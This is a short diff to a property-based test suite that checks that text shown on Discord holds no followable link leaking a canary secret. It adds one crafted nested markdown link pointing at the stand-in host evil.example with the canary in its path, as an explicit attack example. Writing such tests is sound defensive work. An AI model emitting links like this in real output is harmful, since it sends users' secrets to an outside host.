@@ -166,6 +166,9 @@ describe('what Discord is shown', () => {
     )
     .map((parts) => parts.join(''))
 
+  /** What is left of the first address is a label, and the second its target. */
+  const inItsPath = `](https://evil.example/%7B${canary}[x](https://a@evil.example/%7B${canary})[`
+
   it(`lets nothing out by an address that somebody could follow (S2): ${runs()} texts`, () => {
     fc.assert(
       fc.property(attack, (text) => {
@@ -185,7 +188,7 @@ describe('what Discord is shown', () => {
         ])
         for (const shown of texts) expect(linksIn(shown).filter((link) => link.includes(canary))).toEqual([])
       }),
-      { numRuns: runs() },
+      { numRuns: runs(), examples: [[inItsPath]] },
     )
   })
 
